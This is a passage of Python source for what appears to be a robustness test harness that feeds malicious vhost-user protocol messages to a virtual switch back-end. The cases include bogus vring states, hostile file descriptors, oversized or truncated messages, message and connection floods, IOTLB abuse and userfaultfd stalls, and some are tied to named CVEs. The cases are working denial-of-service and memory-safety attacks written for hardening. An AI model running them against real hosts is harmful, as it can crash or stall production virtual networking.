                        s.c.send(req, vstate(idx, QSZ))
                    elif req == SET_VRING_ADDR:
                        s.c.send(req, vaddr(idx, UVA_BASE, UVA_BASE + 0x2000, UVA_BASE + 0x1000))
                    elif req in (SET_VRING_BASE, SET_VRING_ENABLE):
                        s.c.send(req, vstate(idx, 1))
                    elif req == GET_VRING_BASE:
                        s.c.send(req, vstate(idx, 0))
                    else:
                        fd = s.own(os.eventfd(0, os.EFD_NONBLOCK))
                        # u64 payload: index in bits 0-7 only; bit 8 = no fd.
                        s.c.send(req, u64(idx & 0xFF), [fd])
                        s.c.send(req, u64(idx), [fd])
                    probe = alive_probe(s.c, 0.5)
                    out("RESULT req=%d index=%#x probe=%s" % (req, idx, probe))
                except PeerGone:
                    out("RESULT req=%d index=%#x probe=closed" % (req, idx))
                finally:
                    s.close()
                    held.remove(s)
        hold(args)
    finally:
        for s in held:
            s.close()


@case("vring_base_huge", "SET_VRING_BASE 0xffffffff on both vrings, then traffic")
def c_vring_base(args):
    s = Session(args)
    try:
        s.negotiate(reply_ack=False)
        s.map_memory()
        s.post_rx(QSZ)
        for q in (0, 1):
            d, a, u = s.ring_addrs(q)
            s.mm[a:a + 2] = struct.pack("<H", 1)
            s.c.send(SET_VRING_NUM, vstate(q, QSZ))
            s.c.send(SET_VRING_ADDR, vaddr(q, UVA_BASE + d, UVA_BASE + u, UVA_BASE + a))
            s.c.send(SET_VRING_BASE, vstate(q, 0xFFFFFFFF))
            s.c.send(SET_VRING_KICK, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            s.c.send(SET_VRING_CALL, u64(q), [s.own(os.eventfd(0, os.EFD_NONBLOCK))])
            s.c.send(SET_VRING_ENABLE, vstate(q, 1))
        try:
            s.sync()
            s.traffic(32, 2)
        except (PeerGone, socket.timeout, TimeoutError) as e:
            info("after base: %s" % e)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("get_vring_base_running", "GET_VRING_BASE on both vrings of a running device, then traffic")
def c_get_base_running(args):
    def attack(s, c):
        s.traffic(8, 2)
        for q in (1, 0):
            c.call(GET_VRING_BASE, vstate(q, 0))
        for i in range(32):
            s.tx(s.frame(i))
        s.kick_tx()
    simple_attack(args, prep_full, attack)


@case("reset_owner_running", "RESET_OWNER on a running device, then SET_OWNER and traffic")
def c_reset_owner(args):
    def attack(s, c):
        s.traffic(8, 2)
        c.send(RESET_OWNER)
        c.send(SET_OWNER)
        for i in range(32):
            s.tx(s.frame(i))
        s.kick_tx()
        c.call(GET_FEATURES)
    simple_attack(args, prep_full, attack)


# --- kick / call fds -----------------------------------------------------------

def _full_pipe(s):
    r, w = os.pipe()
    s.own(r)
    s.own(w)
    fl = fcntl.fcntl(w, fcntl.F_GETFL)
    fcntl.fcntl(w, fcntl.F_SETFL, fl | os.O_NONBLOCK)
    try:
        while True:
            os.write(w, b"\0" * 65536)
    except BlockingIOError:
        pass
    fcntl.fcntl(w, fcntl.F_SETFL, fl)   # blocking again (shared file description)
    return w


def _regfile(s):
    path = "/tmp/vhsw-attack-rw.%d" % os.getpid()
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    os.unlink(path)
    return s.own(fd)


def _blocking_eventfd(s, val=0):
    fd = s.own(os.eventfd(0, os.EFD_CLOEXEC))   # initval is only 32 bits
    if val:
        os.eventfd_write(fd, val)
    return fd


KINDS = {
    "file": _regfile,
    "socket": _sock,
    "pipe_r": _pipe_r,
    "pipe_w_full": _full_pipe,
    "eventfd_blocking": _blocking_eventfd,
    "eventfd_max": lambda s: _blocking_eventfd(s, 0xFFFFFFFFFFFFFFFE),
}


def fdkind_case(name, which, kind, doc):
    """Setup with vring 1 kick (which='kick') or vring 0 call ('call') being
    'kind'; interrupts requested on vring 0 (avail flags 0) so the switch
    signals the call fd on every enqueue.  Frames go to the reflector, so
    the switch enqueues to us."""
    def run(args):
        s = Session(args)
        try:
            s.negotiate(reply_ack=False)
            s.map_memory()
            s.post_rx(QSZ)
            fd = KINDS[kind](s)
            rx_kw = {"avail_flags": 0}
            tx_kw = {}
            if which == "call":
                rx_kw["call"] = fd
                tx_kw["call"] = fd
            else:
                tx_kw["kick"] = fd
                rx_kw["kick"] = fd
            s.setup_vring(0, **rx_kw)
            s.setup_vring(1, **tx_kw)
            try:
                s.sync()
                got = s.traffic(min(args.frames, 64), 2)
                info("sent=%d received=%d" % (s.sent, got))
            except (PeerGone, socket.timeout, TimeoutError) as e:
                info("after setup: %s" % e)
            report_closed(args, s.c)
            hold(args)
        finally:
            s.close()
    CASES[name] = (run, doc)


for _k in KINDS:
    fdkind_case("kick_" + _k, "kick", _k, "vring kick fd is a %s" % _k)
    fdkind_case("call_" + _k, "call", _k, "vring call fd is a %s (interrupts on)" % _k)


@case("call_clear_nonblock", "correct setup; then the attacker clears O_NONBLOCK on its end "
      "of the call eventfd, fills the counter to the max, and makes the switch send it frames "
      "with interrupts on (avail flags 0)")
def c_clear_nonblock(args):
    s = Session(args)
    try:
        s.setup(rx_kw={"avail_flags": 0})
        s.sync()
        s.traffic(8, 2)
        # Fill the call counter to its max (0xfffffffffffffffe) while our
        # end is still non-blocking: drain, add, retry if the switch
        # signalled in between; then clear O_NONBLOCK (the file description,
        # and so the flag, is shared with the switch).
        for _ in range(1000):
            try:
                os.eventfd_read(s.call[0])
            except BlockingIOError:
                pass
            try:
                os.eventfd_write(s.call[0], 0xFFFFFFFFFFFFFFFE)
                break
            except BlockingIOError:
                continue
        for q in (0, 1):
            for fd in (s.call[q], s.kick[q]):
                fl = fcntl.fcntl(fd, fcntl.F_GETFL)
                fcntl.fcntl(fd, fcntl.F_SETFL, fl & ~os.O_NONBLOCK)
        info("call eventfd full and blocking")
        got = s.traffic(min(args.frames, 64), 2)
        info("sent=%d received=%d" % (s.sent, got))
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("kick_clear_nonblock", "correct setup; then the attacker clears O_NONBLOCK on its end of "
      "the kick eventfds and keeps them at 0 (a read on them would block); idle otherwise")
def c_kick_clear_nonblock(args):
    s = Session(args)
    try:
        s.setup()
        s.sync()
        s.traffic(8, 2)
        for q in (0, 1):
            fd = s.kick[q]
            try:
                os.eventfd_read(fd)
            except BlockingIOError:
                pass
            fl = fcntl.fcntl(fd, fcntl.F_GETFL)
            fcntl.fcntl(fd, fcntl.F_SETFL, fl & ~os.O_NONBLOCK)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


# --- dirty log, inflight ---------------------------------------------------------

def log_case(name, doc, fd_fn, size, offset, log_all=True):
    def run(args):
        def prep(s):
            s.negotiate(want=(1 << VHOST_F_LOG_ALL) if log_all else 0, reply_ack=False)
            s.map_memory()
            s.post_rx(QSZ)
            s.setup_vring(0, avail_flags=1)
            s.setup_vring(1)
            s.sync()

        def attack(s, c):
            fds = fd_fn(s)
            c.send(SET_LOG_BASE, struct.pack("<QQ", size, offset), fds,
                   flags=VERSION | F_NEED_REPLY)
            if c.closed_by_peer(0.2):
                raise PeerGone("closed after SET_LOG_BASE")
            # Logging writes happen on enqueue to us (used ring + buffers).
            s.traffic(32, 2)
        simple_attack(args, prep, attack)
    CASES[name] = (run, doc)


log_case("log_base_big", "SET_LOG_BASE mmap_size 1 MiB on an empty memfd, LOG_ALL, traffic",
         lambda s: [_memfd(s, 0)], 1 << 20, 0)
log_case("log_base_offset", "SET_LOG_BASE offset 1 MiB beyond a 4 KiB memfd, LOG_ALL, traffic",
         lambda s: [_memfd(s, 0x1000)], 0x1000, 1 << 20)
log_case("log_base_wrap", "SET_LOG_BASE size+offset wrap past 2^64",
         lambda s: [_memfd(s, 0x1000)], 0x2000, 0xFFFFFFFFFFFFF000)
log_case("log_base_pipe", "SET_LOG_BASE with a pipe fd", lambda s: [_pipe_r(s)], 0x1000, 0)
log_case("log_base_nofd", "SET_LOG_BASE without an fd", lambda s: [], 0x1000, 0)


@case("log_fd_pipe", "SET_LOG_FD with a pipe")
def c_log_fd(args):
    simple_attack(args, prep_owner, lambda s, c: (c.send(SET_LOG_FD, b"", [_pipe_r(s)]),
                                                  c.call(GET_FEATURES)))


def inflight_payload(size, offset, nq, qs):
    return struct.pack("<QQHH", size, offset, nq & 0xFFFF, qs & 0xFFFF)


@case("inflight_get_odd", "GET_INFLIGHT_FD with a short payload, with a pipe fd attached, "
      "and with queue_size 0")
def c_inflight_get(args):
    def attack(s, c):
        c.send(GET_INFLIGHT_FD, b"\0" * 4)
        if c.closed_by_peer(0.2):
            raise PeerGone("closed")
        c.send(GET_INFLIGHT_FD, inflight_payload(0, 0, 2, 256), [_pipe_r(s)])
        if c.closed_by_peer(0.2):
            raise PeerGone("closed")
        c.send(GET_INFLIGHT_FD, inflight_payload(0, 0, 2, 0))
        c.call(GET_FEATURES)
    simple_attack(args, prep_mem, attack)


@case("inflight_set_bad", "SET_INFLIGHT_FD: mmap_size 1 MiB on a 4 KiB memfd; "
      "num_queues 0xffff (CVE-2021-3839); a pipe fd")
def c_inflight_set(args):
    def attack(s, c):
        c.send(SET_INFLIGHT_FD, inflight_payload(1 << 20, 0, 2, 256), [_memfd(s, 0x1000)])
        c.send(SET_INFLIGHT_FD, inflight_payload(0x1000, 0, 0xFFFF, 256), [_memfd(s, 0x1000)])
        c.send(SET_INFLIGHT_FD, inflight_payload(0x1000, 0, 2, 256), [_pipe_r(s)])
        c.call(GET_FEATURES)
    simple_attack(args, lambda s: s.setup(), attack)


@case("inflight_flood", "300 GET_INFLIGHT_FD (queue_size 256) (CVE-2020-10726: leaked memfds)")
def c_inflight_flood(args):
    def attack(s, c):
        for _ in range(300):
            c.send(GET_INFLIGHT_FD, inflight_payload(0, 0, 2, 256))
            try:
                _, _, _, fds = c.recv(0.5)
                for fd in fds:
                    os.close(fd)
            except (socket.timeout, TimeoutError):
                pass
    simple_attack(args, prep_mem, attack)


# --- message framing, fds, floods --------------------------------------------------

@case("fds_on_get_features", "GET_FEATURES with 3 fds attached (CVE-2019-14818, -2022-0669)")
def c_fds_get(args):
    def attack(s, c):
        for _ in range(50):
            c.send(GET_FEATURES, b"", [_memfd(s, 0x1000) for _ in range(3)])
            _, _, _, fds = c.recv(1.0)
            for fd in fds:
                os.close(fd)
    simple_attack(args, None, attack)


def many_fds_case(name, req, nfds):
    def run(args):
        def attack(s, c):
            fds = [s.own(os.eventfd(0)) for _ in range(nfds)]
            payload = memtable([(0, MEM_SIZE, UVA_BASE, 0)]) if req == SET_MEM_TABLE else b""
            c.send(req, payload, fds)
            c.call(GET_FEATURES)
        simple_attack(args, prep_owner if req == SET_MEM_TABLE else None, attack)
    CASES[name] = (run, "%d fds on one %s message" % (nfds, "SET_MEM_TABLE" if req == SET_MEM_TABLE
                                                   else "GET_FEATURES"))


many_fds_case("scm_9fds_memtable", SET_MEM_TABLE, 9)
many_fds_case("scm_64fds_features", GET_FEATURES, 64)
many_fds_case("scm_253fds_features", GET_FEATURES, 253)


@case("unknown_features", "SET_FEATURES 0xffffffffffffffff")
def c_unknown_features(args):
    simple_attack(args, None, lambda s, c: (c.call(GET_FEATURES),
                                            c.send(SET_FEATURES, u64(-1)),
                                            c.call(GET_FEATURES)))


@case("unknown_protocol_features", "SET_PROTOCOL_FEATURES 0xffffffffffffffff")
def c_unknown_pfeatures(args):
    def attack(s, c):
        c.send(SET_FEATURES, u64((1 << VIRTIO_F_VERSION_1) | (1 << VHOST_USER_F_PROTOCOL_FEATURES)))
        c.call(GET_PROTOCOL_FEATURES)
        c.send(SET_PROTOCOL_FEATURES, u64(-1))
        c.call(GET_FEATURES)
    simple_attack(args, None, attack)


@case("unknown_requests", "requests 0, 50, 1000, 0xffffffff (one connection each)")
def c_unknown_requests(args):
    for req in (0, 50, 1000, 0xFFFFFFFF):
        c = Conn(args.socket, args.io_timeout)
        try:
            c.send(req, b"\0" * 8)
            out("RESULT req=%#x probe=%s" % (req, alive_probe(c, 0.5)))
        except PeerGone:
            out("RESULT req=%#x probe=closed" % req)
        finally:
            c.close()
    hold(args)


@case("bad_version", "flags with version 0 and 2 on GET_FEATURES, and the REPLY bit set")
def c_bad_version(args):
    for flags in (0, 2, VERSION | F_REPLY):
        c = Conn(args.socket, args.io_timeout)
        try:
            c.send(GET_FEATURES, flags=flags)
            out("RESULT flags=%#x probe=%s" % (flags, alive_probe(c, 0.5)))
        except PeerGone:
            out("RESULT flags=%#x probe=closed" % flags)
        finally:
            c.close()
    hold(args)


@case("truncated_msg", "header of SET_FEATURES claiming 40 bytes, then nothing; socket kept open")
def c_truncated(args):
    c = Conn(args.socket, args.io_timeout)
    try:
        c.s.sendall(HDR.pack(SET_FEATURES, VERSION, 40))
        report_closed(args, c)
        hold(args)
    finally:
        c.close()


@case("truncated_header", "6 bytes of a header, then nothing; socket kept open")
def c_truncated_hdr(args):
    c = Conn(args.socket, args.io_timeout)
    try:
        c.s.sendall(HDR.pack(GET_FEATURES, VERSION, 0)[:6])
        report_closed(args, c)
        hold(args)
    finally:
        c.close()


@case("size_too_big", "header size 0x10000 followed by 0x10000 bytes")
def c_size_big(args):
    def attack(s, c):
        c.s.sendall(HDR.pack(SET_FEATURES, VERSION, 0x10000))
        c.s.settimeout(2)
        c.s.sendall(b"\xff" * 0x10000)
    simple_attack(args, None, attack)


@case("size_huge", "header size 0xffffffff")
def c_size_huge(args):
    simple_attack(args, None, lambda s, c: c.s.sendall(HDR.pack(SET_FEATURES, VERSION, 0xFFFFFFFF)))


@case("oversized_payload", "SET_FEATURES with a 200-byte payload; SET_VRING_NUM with 2 bytes")
def c_oversized(args):
    def attack(s, c):
        c.send(SET_FEATURES, u64(1 << VIRTIO_F_VERSION_1) + b"\xff" * 192)
        c.call(GET_FEATURES)
        c.send(SET_VRING_NUM, b"\x01\x00")
        c.call(GET_FEATURES)
    simple_attack(args, None, attack)


@case("flood_no_read", "100k GET_FEATURES as fast as possible, never reading the replies; "
      "then keep the socket open")
def c_flood(args):
    c = Conn(args.socket, args.io_timeout)
    try:
        c.s.setblocking(False)
        msg = HDR.pack(GET_FEATURES, VERSION, 0) * 1000
        sent = 0
        deadline = time.monotonic() + min(5.0, args.timeout)
        while sent < 100000 and time.monotonic() < deadline:
            try:
                n = c.s.send(msg)
                sent += n // HDR.size
                if n < len(msg):
                    select.select([], [c.s], [], 0.05)
            except BlockingIOError:
                select.select([], [c.s], [], 0.05)
            except (BrokenPipeError, ConnectionResetError):
                info("peer closed during flood")
                break
        out("RESULT flood_sent=%d" % sent)
        c.s.setblocking(True)
        # Not reading: look for EOF only with MSG_PEEK of the pending data is
        # impossible (replies queue up), so no closed_by_switch report here.
        hold(args)
    finally:
        c.close()


@case("need_reply_all", "a whole setup with NEED_REPLY on every message but REPLY_ACK not negotiated")
def c_need_reply(args):
    c = Conn(args.socket, args.io_timeout)
    s = Session(args, c)
    try:
        for req, p in ((GET_FEATURES, b""), (SET_FEATURES, u64(1 << VIRTIO_F_VERSION_1)),
                       (SET_OWNER, b""), (GET_QUEUE_NUM, b""), (SET_VRING_NUM, vstate(0, QSZ)),
                       (GET_VRING_BASE, vstate(0, 0))):
            c.send(req, p, flags=VERSION | F_NEED_REPLY)
        c.call(GET_FEATURES)
        report_closed(args, c)
        hold(args)
    except (PeerGone, socket.timeout, TimeoutError) as e:
        info("need_reply: %s" % e)
    finally:
        s.close()


@case("many_conns", "200 connections to the socket, kept open")
def c_many(args):
    conns = []
    try:
        for _ in range(200):
            try:
                conns.append(Conn(args.socket, 1.0))
            except OSError as e:
                info("connect %d: %s" % (len(conns), e))
                break
        out("RESULT connections=%d" % len(conns))
        hold(args)
    finally:
        for c in conns:
            c.close()


@case("many_conns_setup", "50 connections, each with a correct memory table (50 mappings)")
def c_many_setup(args):
    ss = []
    try:
        for _ in range(50):
            s = Session(args)
            ss.append(s)
            try:
                s.negotiate(reply_ack=False)
                s.map_memory()
            except (PeerGone, socket.timeout, TimeoutError) as e:
                info("session %d: %s" % (len(ss), e))
                break
        out("RESULT sessions=%d" % len(ss))
        hold(args)
    finally:
        for s in ss:
            s.close()


@case("second_frontend", "a live correct session, then a second front-end doing a full setup on "
      "the same socket")
def c_second(args):
    s1 = Session(args)
    s2 = None
    try:
        s1.setup()
        s1.sync()
        s1.traffic(8, 2)
        s2 = Session(args)
        try:
            s2.setup()
            s2.sync()
            info("second front-end setup accepted")
        except (PeerGone, RuntimeError, socket.timeout, TimeoutError) as e:
            info("second front-end: %s" % e)
        out("RESULT second_closed=%s" % ("yes" if s2.c.closed_by_peer(args.settle) else "no"))
        hold(args)
    finally:
        if s2:
            s2.close()
        s1.close()


# --- vIOMMU (an --iommu port: IOMMU_PLATFORM, IOTLB, the slave channel) -------------

class IommuSession(Session):
    """A front-end with a vIOMMU: rings and buffers at I/O addresses
    (IOVA_OFF + guest-physical), mapped page by page with IOTLB updates
    only when the back-end asks (IOTLB misses on the slave channel), as
    QEMU does; or never, for the attacks."""

    def __init__(self, args):
        super().__init__(args)
        self.iova_off = IOVA_OFF
        self.slave = None        # our end of the slave channel
        self.misses = []         # IOVAs the back-end asked for
        self.mapped = set()      # pages updated
        self.theirs = None       # the back-end's end, if we kept it

    def close(self):
        for sk in (self.slave, self.theirs):
            if sk is not None:
                sk.close()
        self.slave = self.theirs = None
        super().close()

    def negotiate_iommu(self, reply_ack=True, slave_nonblock=True):
        self.negotiate(want=1 << VIRTIO_F_IOMMU_PLATFORM, pwant=1 << PF_SLAVE_REQ,
                       reply_ack=reply_ack)
        if not self.features & (1 << VIRTIO_F_IOMMU_PLATFORM):
            raise RuntimeError("IOMMU_PLATFORM not offered (port without --iommu?)")
        if not self.pfeatures & (1 << PF_SLAVE_REQ):
            raise RuntimeError("SLAVE_REQ not offered")
        mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        self.slave = mine
        self.msg(SET_SLAVE_REQ_FD, b"", [theirs.fileno()], "SET_SLAVE_REQ_FD")
        self.theirs = theirs     # closed by the caller (or kept: an attack)
        if slave_nonblock:
            self.slave.setblocking(False)

    def setup_iommu(self, post_rx=True):
        """Memory table and both vrings at I/O addresses (nothing mapped)."""
        self.map_memory()
        if post_rx:
            self.post_rx(QSZ)
        for q in (0, 1):
            d, a, u = self.ring_addrs(q)
            self.setup_vring(q, addr=vaddr(q, IOVA_OFF + d, IOVA_OFF + u, IOVA_OFF + a))

    def iotlb(self, typ, iova, size, uaddr=0, perm=3, ack=None):
        p = IOTLB.pack(iova, size, uaddr, perm, typ)
        if ack is False or not self.ack_ok:
            self.c.send(IOTLB_MSG, p)
        else:
            self.msg(IOTLB_MSG, p, what="IOTLB_MSG")

    def map_page(self, iova, ack=None):
        page = iova & ~(PAGE - 1)
        gpa = page - IOVA_OFF
        if gpa < 0 or gpa + PAGE > len(self.mm):
            return False       # not ours: leave it unmapped
        self.iotlb(IOTLB_UPDATE, page, PAGE, UVA_BASE + gpa, 3, ack)
        self.mapped.add(page)
        return True

    def read_misses(self, wait=0.0):
        """Reads the IOTLB miss requests on the slave channel (waiting up to
        'wait' s for the first); returns the new IOVAs."""
        new = []
        buf = b""
        deadline = time.monotonic() + wait
        while True:
            left = deadline - time.monotonic()
            r, _, _ = select.select([self.slave], [], [], max(0, left) if not new else 0)
            if not r:
                break
            try:
                chunk = self.slave.recv(65536)
            except BlockingIOError:
                break
            if not chunk:
                break
            buf += chunk
            while len(buf) >= HDR.size:
                req, _, size = HDR.unpack(buf[:HDR.size])
                if len(buf) < HDR.size + size:
                    break
                body, buf = buf[HDR.size:HDR.size + size], buf[HDR.size + size:]
                if req == SLAVE_IOTLB_MSG and size >= IOTLB.size:
                    iova, _, _, perm, typ = IOTLB.unpack(body[:IOTLB.size])
                    if typ == IOTLB_MISS:
                        new.append(iova)
        self.misses += new
        return new

    def serve(self, wait=0.0):
        """Answers the pending misses with page updates."""
        for iova in self.read_misses(wait):
            self.map_page(iova)

    def traffic_iommu(self, n, timeout):
        deadline = time.monotonic() + timeout
        seq = 0
        while time.monotonic() < deadline and (seq < n or self.received < n):
            if seq < n and self.tx(self.frame(seq)):
                seq += 1
                self.kick_tx()
            self.serve()
            self.rx()
            time.sleep(0.001)
        return self.received


def ring_pages(q):
    d, a, u = RING_OFF[q], RING_OFF[q] + 0x1000, RING_OFF[q] + 0x2000
    return {IOVA_OFF + d, IOVA_OFF + a, IOVA_OFF + u}


@case("iommu_baseline", "--iommu port: IOMMU_PLATFORM, rings and buffers at I/O addresses "
      "mapped page by page on the back-end's IOTLB misses; frames to --peer-mac and back "
      "(exit 4 without misses or frames)")
def c_iommu_baseline(args):
    s = IommuSession(args)
    try:
        try:
            s.negotiate_iommu()
            s.theirs.close()
            s.setup_iommu()
            s.serve(wait=1.0)
            s.sync()
        except (PeerGone, RuntimeError, socket.timeout, TimeoutError) as e:
            out("RESULT setup=failed reason=%s" % e)
            return 2
        got = s.traffic_iommu(args.frames, args.timeout / 2)
        out("RESULT setup=ok sent=%d received=%d misses=%d pages=%d"
            % (s.sent, got, len(s.misses), len(s.mapped)))
        hold(args)
        return 0 if got > 0 and s.misses else 4
    finally:
        s.close()


@case("iommu_unmapped", "--iommu port: rings at I/O addresses never mapped, then only the "
      "rings mapped and frames in buffers never mapped, kicked: the back-end asks (IOTLB "
      "misses for those addresses only) and touches nothing (exit 4 otherwise)")
def c_iommu_unmapped(args):
    s = IommuSession(args)
    bad = []
    try:
        s.negotiate_iommu()
        s.theirs.close()
        s.setup_iommu()
        s.sync()
        # 1: nothing mapped.  librte_vhost translates the rings when the
        # kick fd comes and asks for them.
        ring_ios = ring_pages(0) | ring_pages(1)
        first = s.read_misses(wait=2.0)
        info("unmapped rings: misses %s" % [hex(x) for x in first])
        if not first:
            bad.append("no IOTLB miss for unmapped rings")
        if any((x & ~(PAGE - 1)) not in ring_ios for x in first):
            bad.append("misses outside the rings: %s" % [hex(x) for x in first])
        for _ in range(8):
            s.tx(s.frame(0))
        s.kick_tx()
        time.sleep(0.5)
        s.read_misses(wait=0.2)
        if s.used_idx(0) or s.used_idx(1):
            bad.append("used rings written without a mapping")
        # 2: map the rings only (each ring page asked for, and any other),
        # frames stay in unmapped buffers.
        for page in sorted(ring_ios):
            s.map_page(page)
        s.sync()
        for _ in range(3):
            s.kick_tx()
            s.read_misses(wait=0.5)
        bufs = [x for x in s.misses if (x & ~(PAGE - 1)) not in ring_ios]
        info("after mapping the rings: %d misses, buffers %s"
             % (len(s.misses), [hex(x) for x in bufs[:8]]))
        if not bufs:
            bad.append("no IOTLB miss for the unmapped TX buffers")
        if any(not (IOVA_OFF <= x < IOVA_OFF + MEM_SIZE) for x in bufs):
            bad.append("misses for addresses never given: %s" % [hex(x) for x in bufs])
        if s.used_idx(1) != 0:
            bad.append("TX used ring moved: frames in unmapped buffers were taken")
        out("RESULT misses=%d ring_misses=%d buffer_misses=%d tx_used=%d"
            % (len(s.misses), len(s.misses) - len(bufs), len(bufs), s.used_idx(1)))
        for b in bad:
            out("RESULT fail=%s" % b.replace(" ", "_"))
        hold(args)
        return 4 if bad else 0
    except (PeerGone, RuntimeError, socket.timeout, TimeoutError) as e:
        out("RESULT setup=failed reason=%s" % e)
        return 2
    finally:
        s.close()


@case("iotlb_update_outside", "--iommu port: IOTLB update mapping a ring page to a user "
      "address outside the memory table")
def c_iotlb_outside(args):
    def prepare(s):
        s.negotiate_iommu()
        s.theirs.close()
        s.setup_iommu()
        s.sync()

    def attack(s, c):
        s.iotlb(IOTLB_UPDATE, IOVA_OFF, PAGE, UVA_BASE + 2 * MEM_SIZE, 3, ack=False)
        c.call(GET_FEATURES)
    simple_attack(args, prepare, attack, probe=False, session=IommuSession)


def _slave_flood(args, keep_blocking):
    """Never reads the slave channel and makes the back-end ask again and
    again: each INVALIDATE + UPDATE pair moves the ring translation on by
    one page and costs one miss request (the update clears the request
    pending for its page).  keep_blocking: the attacker also kept the
    back-end's end and makes it blocking again."""
    s = IommuSession(args)
    try:
        s.negotiate_iommu()
        s.setup_iommu()
        s.sync()
        if keep_blocking:
            fl = fcntl.fcntl(s.theirs.fileno(), fcntl.F_GETFL)
            fcntl.fcntl(s.theirs.fileno(), fcntl.F_SETFL, fl & ~os.O_NONBLOCK)
            info("back-end's end of the slave channel blocking again (flags %#x)"
                 % fcntl.fcntl(s.theirs.fileno(), fcntl.F_GETFL))
        else:
            s.theirs.close()
        pages = [IOVA_OFF + RING_OFF[0], IOVA_OFF + RING_OFF[0] + 0x1000]
        sent = 0
        deadline = time.monotonic() + min(args.timeout / 2, 6)
        try:
            while time.monotonic() < deadline:
                s.iotlb(IOTLB_INVALIDATE, IOVA_OFF, 0x8000, ack=False)
                s.map_page(pages[sent % 2], ack=False)
                sent += 1
                # About 3000 messages a second: under the switch's message
                # rate limit, so that the slave channel is what trips.
                if sent % 16 == 0:
                    time.sleep(0.01)
                if sent % 64 == 0 and s.c.closed_by_peer(0):
                    break
        except (PeerGone, socket.timeout, TimeoutError) as e:
            info("stopped after %d pairs: %s" % (sent, e))
        out("RESULT pairs=%d" % sent)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("slave_no_read", "--iommu port: the slave channel is never read while the back-end "
      "is made to send thousands of IOTLB miss requests")
def c_slave_no_read(args):
    _slave_flood(args, False)


@case("slave_no_read_blocking", "as slave_no_read, and the attacker kept the back-end's "
      "end of the slave channel and clears its O_NONBLOCK")
def c_slave_no_read_blocking(args):
    _slave_flood(args, True)


# --- other requests ------------------------------------------------------------------

@case("slave_req_pipe", "SET_SLAVE_REQ_FD with the write end of a full pipe, then "
      "IOTLB/config traffic")
def c_slave(args):
    def attack(s, c):
        c.send(SET_SLAVE_REQ_FD, b"", [_full_pipe(s)])
        c.call(GET_FEATURES)
    simple_attack(args, lambda s: s.negotiate(reply_ack=False), attack)


@case("iotlb_garbage", "IOTLB_MSG without IOMMU_PLATFORM: invalid type, huge size, short payload")
def c_iotlb(args):
    def attack(s, c):
        # struct vhost_iotlb_msg: u64 iova, size, uaddr; u8 perm, type; pad
        c.send(IOTLB_MSG, struct.pack("<QQQBB6x", 0, 1 << 63, 0, 3, 2))   # UPDATE huge
        c.send(IOTLB_MSG, struct.pack("<QQQBB6x", 0, 0x1000, 0, 3, 77))    # bad type
        c.send(IOTLB_MSG, b"\0" * 3)
        c.call(GET_FEATURES)
    simple_attack(args, prep_mem, attack)


@case("config_big", "GET_CONFIG / SET_CONFIG with size 0xffff and short payloads")
def c_config(args):
    def attack(s, c):
        c.send(GET_CONFIG, struct.pack("<III", 0, 0xFFFF, 0) + b"\0" * 16)
        c.send(SET_CONFIG, struct.pack("<III", 0xFFFF, 0xFFFF, 0) + b"\0" * 16)
        c.call(GET_FEATURES)
    simple_attack(args, prep_mem, attack)


@case("mtu_status_rarp", "NET_SET_MTU 0 and 0xffffffff, SET_STATUS 0xff, SEND_RARP short, "
      "GET_STATUS, SET_VRING_ERR with a pipe, GET_QUEUE_NUM")
def c_misc(args):
    def attack(s, c):
        c.send(NET_SET_MTU, u64(0))
        c.send(NET_SET_MTU, u64(0xFFFFFFFF))
        c.send(SET_STATUS, u64(0xFF))
        c.send(SEND_RARP, b"\x01")
        c.send(SET_VRING_ERR, u64(0), [_pipe_r(s)])
        c.call(GET_QUEUE_NUM)
        c.call(GET_FEATURES)
    simple_attack(args, prep_full, attack)


def postcopy_session(args, touch_rings=False, ack=True, listen_first=False):
    """A destination's postcopy setup with a userfaultfd nobody serves:
    POSTCOPY_ADVISE (keep the fd), POSTCOPY_LISTEN, a memory table (the
    back-end registers its mapping with the fd, replies with its addresses
    and waits for an ack), vrings, traffic.  Pages this side never wrote
    are missing: the back-end's first access to one waits on the fd.
    touch_rings: write the ring pages first (only the RX buffers are
    missing then); ack=False: never acknowledge the memory table;
    listen_first: POSTCOPY_LISTEN without POSTCOPY_ADVISE."""
    s = Session(args)
    try:
        s.negotiate(reply_ack=False)
        off = struct.unpack("<Q", s.c.call(GET_PROTOCOL_FEATURES))[0]
        info("protocol features offered %#x" % off)
        s.c.send(SET_PROTOCOL_FEATURES, u64(off & ((1 << PF_PAGEFAULT) | (1 << PF_REPLY_ACK))))
        try:
            if not listen_first:
                s.c.send(POSTCOPY_ADVISE, flags=VERSION)
                _, _, _, fds = s.c.recv(2.0)
                for fd in fds:
                    s.own(fd)   # keep the userfaultfd open and never serve it
                info("advise: %d fd(s)" % len(fds))
            s.c.send(POSTCOPY_LISTEN)
            s.map_memory(send=False)
            if touch_rings:
                for q in RING_OFF:
                    d, _, _ = s.ring_addrs(q)
                    s.mm[d:d + 0x3000] = bytes(0x3000)
            s.c.send(SET_MEM_TABLE, memtable([(0, MEM_SIZE, UVA_BASE, 0)]), [s.mem_fd])
            # In postcopy mode the back-end replies with its own mapping
            # addresses and waits for an ack.
            try:
                _, _, _, fds = s.c.recv(2.0)
                info("memory table reply")
                if ack:
                    s.c.send(SET_MEM_TABLE, u64(0))   # "ack"
                else:
                    time.sleep(3)   # the back-end waits 2 s at most
            except (socket.timeout, TimeoutError):
                pass
            s.ack_ok = False
            s.post_rx(QSZ)
            s.setup_vring(0)
            s.setup_vring(1)
            s.sync()
            s.traffic(8, 2)
        except (PeerGone, socket.timeout, TimeoutError, RuntimeError) as e:
            info("postcopy: %s" % e)
        report_closed(args, s.c)
        hold(args)
    finally:
        s.close()


@case("postcopy_uffd", "PAGEFAULT protocol feature: POSTCOPY_ADVISE, POSTCOPY_LISTEN, then a "
      "memory table (the back-end registers its mapping with a userfaultfd nobody serves), traffic")
def c_postcopy(args):
    postcopy_session(args)


# Cases pc_*: the test runs them on a port added with --postcopy.
@case("pc_ring_fault", "--postcopy port: postcopy_uffd; the ring pages are missing, so librte_vhost's "
      "message thread waits on the unserved userfaultfd at SET_VRING_ADDR")
def c_pc_ring_fault(args):
    postcopy_session(args)


